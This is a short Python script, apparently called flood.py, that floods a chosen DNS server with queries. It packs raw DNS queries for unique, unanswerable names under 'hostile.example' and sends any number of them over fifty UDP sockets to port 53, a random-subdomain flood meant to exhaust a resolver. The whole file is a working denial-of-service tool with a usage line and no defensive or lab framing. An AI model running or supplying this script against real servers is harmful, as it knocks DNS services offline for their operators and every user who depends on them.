"""Asks as many questions at once as it is told, of names that nobody answers: `python3 flood.py SERVER COUNT`."""

import socket
import struct
import sys

server, count = sys.argv[1], int(sys.argv[2])
sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(50)]
for number in range(count):
    name = b"".join(bytes([len(label)]) + label for label in (b"silent%d" % number, b"hostile", b"example"))
    query = struct.pack(">HHHHHH", number & 0xFFFF, 0x0100, 1, 0, 0, 0) + name + b"\0\0\x01\0\x01"
    sockets[number % 50].sendto(query, (server, 53))
